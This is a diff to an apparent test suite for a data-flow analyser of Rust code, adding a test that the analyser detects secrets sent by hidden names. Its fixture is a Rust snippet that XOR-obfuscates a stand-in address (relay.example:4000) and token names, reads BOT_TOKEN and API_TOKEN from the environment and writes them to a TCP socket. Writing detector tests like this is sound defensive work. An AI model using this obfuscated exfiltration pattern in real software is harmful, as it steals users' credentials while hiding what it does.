@@ -93,8 +93,40 @@ def test_a_closure_bound_to_a_name_takes_the_arguments_it_is_called_with() -> No
     assert [(flow.function, flow.sources) for flow in flows(source)] == [
         ("send", frozenset({"user-file"}))
     ]
-    unrelated = source.replace("add(\"netrc\".into(), b)", "drop(b)")
+    unrelated = source.replace('add("netrc".into(), b)', "drop(b)")
     assert flows(unrelated) == []
+
+
+def _xored(text: str) -> str:
+    """A Rust byte slice of ``text`` with every byte XORed with 2."""
+    return "&[" + ", ".join(str(ord(c) ^ 2) for c in text) + "]"
+
+
+def test_the_names_a_let_decodes_inline_hold_what_they_say() -> None:
+    """`let s = (0..N).filter_map(entry).collect()`: the interpreter decodes the address and
+    the variables' names before the labels flow, so the values read by those names, sent
+    to that address, are a flow of secrets gathered by hidden names."""
+    source = (
+        "use std::io::Write;\n"
+        "const TABLE: [&[u8]; 2] = [\n"
+        f"    {_xored('relay.example:4000')},\n"
+        f"    {_xored('BOT_TOKEN,API_TOKEN')},\n"
+        "];\n"
+        "fn entry(n: usize) -> Option<String> {\n"
+        "    TABLE.get(n).map(|w| w.iter().map(|b| (b ^ 0x02) as char).collect())\n"
+        "}\n"
+        "fn start() {\n"
+        "    let s: Vec<String> = (0..TABLE.len()).filter_map(entry).collect();\n"
+        "    let names = s[1].split(',');\n"
+        "    let found: Vec<String> = names.filter_map(|k| std::env::var(k).ok()).collect();\n"
+        "    let mut t = std::net::TcpStream::connect(s[0].as_str()).unwrap();\n"
+        '    let _ = t.write_all(found.join(";").as_bytes());\n'
+        "}\n"
+    )
+    sent = [flow for flow in flows(source) if flow.action == "send"]
+    assert [(flow.sink, flow.sources, flow.hidden) for flow in sent] == [
+        ("socket write_all", frozenset({"environment"}), True)
+    ]
 
 
 def test_the_whole_environment_and_secrets_gathered_by_name() -> None:
